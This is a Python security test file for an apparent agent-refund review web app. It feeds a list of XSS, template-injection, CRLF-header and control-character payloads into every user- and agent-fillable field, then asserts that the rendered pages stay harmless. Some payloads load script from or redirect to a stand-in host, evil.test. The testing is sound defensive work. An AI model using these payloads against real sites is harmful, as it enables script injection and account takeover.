"""Markup, scripts and characters that act, in each field that an agent or a stranger can fill."""

import contextlib
import json
import re
from collections.abc import AsyncGenerator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx2

from broker.core.calls import Person, Principal
from broker.core.credentials import CredentialClass
from broker.core.holds import Hold
from broker.core.scopes import Scope
from broker.core.text import visible
from broker.core.unit import Unit
from broker.mandates import MandateOrder
from tests.attacks.web.walking import requests_of
from tests.fakes.decision_point import allow, hold, opinion
from tests.pages import Site, site
from tests.served import kept_policy
from tests.world import CUSTOMER, credential, reviewer

MARK = "Xq7"
PAYLOADS = [
    f"<script>alert('{MARK}')</script>",
    f'"><img src=x onerror=alert("{MARK}")>',
    f"'><svg/onload=alert(`{MARK}`)>",
    f"</textarea></title></style></script><script src=//evil.test/{MARK}></script>",
    f'" autofocus onfocus="alert(1)" x="{MARK}',
    f"javascript:alert('{MARK}')",
    f"{{{{ 7*7 }}}}{{% raw %}}{MARK}${{7*7}}<%= 7*7 %>",
    f"<base href=//evil.test/><meta http-equiv=refresh content='0;url=//evil.test'>{MARK}",
    f'<div hx-get="/sign-out" hx-trigger="load" data-hx-on:load="alert(1)">{MARK}</div>',
    f'<form action="/sign-out" method="post"><button id="approve">{MARK}',
    f"<!--{MARK}--!><![CDATA[{MARK}]]><iframe srcdoc='<script>alert(1)</script>'>",
    f"&lt;script&gt;{MARK}&#60;script&#62;&amp;lt;",
    f"\u202e\u2066{MARK}\u200b\u00ad\ufeff\x07\x1b[31m\x00",
    f"+ADw-script+AD4-alert(1)+ADw-/script+AD4-{MARK}",
    f"\u2028\u2029\r\n\r\nHTTP/1.1 200 OK\r\n\r\n{MARK}",
]
INLINE = re.compile(r"""<script(?![^>]*\ssrc="(?:/static/|\{\{ "[\w/.-]+"\|asset \}\}))""")
LEAVING = {("POST", "/sign-out"), ("POST", "/sign-in/{secret}")}
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "wbr"}
NEVER = {"iframe", "object", "embed", "base", "math", "style", "frame", "applet", "portal"}
ADDRESSES = {"href", "src", "action", "formaction", "hx-get", "hx-post", "hx-sse:connect", "poster"}


class Page(HTMLParser):
    """What a browser would make of a page: elements, attributes, and the text between them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.open and tag in self.open:
            while self.open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def read(text: str) -> Page:
    page = Page()
    page.feed(text)
    page.close()
    return page


def assert_harmless(answer: httpx2.Response) -> Page:
    """Nothing runs, nothing leads elsewhere, and no character acts."""
    page = read(answer.text)
    for tag, attributes in page.elements:
        assert tag not in NEVER, tag
        assert not [name for name in attributes if name.startswith(("on", "style", "srcdoc"))]
        assert not [name for name in attributes if "hx-on" in name or name == "hx-vals"]
        for name in ADDRESSES & set(attributes):
            where = attributes[name]
            assert where.startswith(("/", "#")) or where == "", (tag, name, where)
            assert not where.startswith(("//", "/\\")), where
        if tag == "script":
            assert attributes["src"].startswith("/static/"), attributes
        if tag in {"img", "svg"}:
            assert "Xq7" not in str(attributes), attributes
    acting = {c for c in answer.text if not c.isprintable() and c not in "\n\t"}
    assert acting == set(), acting
    assert "evil.test" not in str([a for _, attributes in page.elements for a in attributes])
    return page


@contextlib.asynccontextmanager
async def desk(path: Path) -> AsyncGenerator[Site]:
    """Pages over a broker whose summaries repeat what an agent wrote."""
    async with site(path) as s:
        await s.world.put_tool(summary="Refund {/amount_minor} of {/order_id}: {/reason}")
        await s.world.store.commit(Unit(changes=(kept_policy(),), entries=()))
        yield s


async def filled(s: Site, payload: str) -> Hold:
    """A hold in whose every field somebody has written a payload."""
    w = s.world
    caller = await a_caller(s, payload)
    w.policy.answer = opinion(allow())
    await ask(s, caller, "an-earlier-one", payload)
    w.policy.answer = opinion(hold("LARGE"))
    held = await ask(s, caller, payload[:60], payload)
    found = await w.store.find_hold(held.hold)
    assert found is not None, held
    return found[0]


async def a_caller(s: Site, payload: str) -> Any:
    w = s.world
    order = MandateOrder(
        principal=Principal(
            id=CUSTOMER,
            person=Person(issuer="local", subject=CUSTOMER),
            groups=("customers",),
            attributes={"name": payload},
        ),
        agent=w.agent.subject,
        words=(f"My lamp broke. {payload}",),
        scopes=(Scope(name="refunds:write"),),
    )
    host = credential(CredentialClass.HOST, "hosts/shop")
    _, secret = await w.mandates.create(host, order)
    session, session_secret = await w.sessions.open(w.agent, secret)
    return await w.sessions.caller(w.agent, session.name, session_secret)


async def ask(s: Site, caller: Any, request_id: str, payload: str) -> Any:
    arguments = {
        "order_id": "O-1001",
        "amount_minor": 1_000,
        "currency": "EUR",
        "reason": payload,
    }
    return await s.world.enforcer.invoke(
        caller,
        request_id=request_id if request_id.isascii() and request_id.isprintable() else "r-1",
        tool="refund",
        arguments_json=json.dumps(arguments).encode(),
    )


async def test_whatever_an_agent_writes_is_text_on_every_page(tmp_path):
    """I write it into arguments, names, the user's words and results, and wait for who looks."""
    async with desk(tmp_path) as s:
        for payload in PAYLOADS:
            held = await filled(s, payload)
            lead = reviewer(payload.strip()[:190], "reviewers", person="lead")
            async with await s.signed_in(lead) as browser:
                for method, path, _ in requests_of(s, held):
                    if method != "GET" or path.startswith(("/live", "/sign-in")):
                        continue
                    answer = await browser.get(path)
                    assert answer.status_code < 500, (path, payload)
                    if "text/html" in answer.headers.get("content-type", ""):
                        assert_harmless(answer)
                page = assert_harmless(await browser.get(f"/{held.name}"))
                shown = "".join(page.text)
                assert MARK in shown
                assert visible(payload)[:6] in shown
            await s.parts.reviews.reject(lead, held.name, etag=1, reason=f"No. {payload}")


async def test_whatever_is_sent_to_a_page_comes_back_as_text(tmp_path):
    """I send it in forms, in filters and in addresses, to be shown it back as markup."""
    names = ("tool", "agent", "principal", "amount", "age", "mine", "q", "next", "after", "hold")
    fields = ("etag", "call_digest", "reason", "hold", "less0", "opened", "state")
    async with desk(tmp_path) as s, await s.signed_in() as browser:
        waiting = await s.waiting()
        for payload in PAYLOADS:
            for method, path, route in requests_of(s, waiting):
                if path.startswith("/live") or (method, route) in LEAVING:
                    continue
                if method == "GET":
                    answer = await browser.get(path, params=dict.fromkeys(names, payload))
                else:
                    answer = await browser.post(path, data=dict.fromkeys(fields, payload))
                assert answer.status_code < 500, (path, payload)
                if "text/html" in answer.headers.get("content-type", ""):
                    assert_harmless(answer)
                assert "\n" not in str(answer.headers.get("location", ""))
            sent = {"etag": str(waiting.etag), "call_digest": waiting.call_digest}
            again = await browser.post(f"/{waiting.name}/approve", data={**sent, "etag": payload})
            assert again.status_code == 409
            assert_harmless(again)


async def test_no_template_marks_anything_as_safe():
    """I wait until somebody writes `|safe`, which lets my markup through."""
    templates = Path(__file__).parents[3] / "broker" / "web" / "templates"
    for file in sorted(templates.rglob("*.html")):
        text = file.read_text(encoding="utf-8")
        for never in (
            "|safe",
            "| safe",
            "autoescape",
            "Markup",
            " style=",
            "<style",
            "javascript:",
        ):
            assert never not in text, (file.name, never)
        assert not re.search(r"[\s\"'/]on[a-z]+=[\"']", text), file.name
        assert not re.search(
            r"<script(?![^>]*\ssrc=\"(?:/static/|{{ \"[\w/.-]+\"\|asset }}))", text
        ), file.name
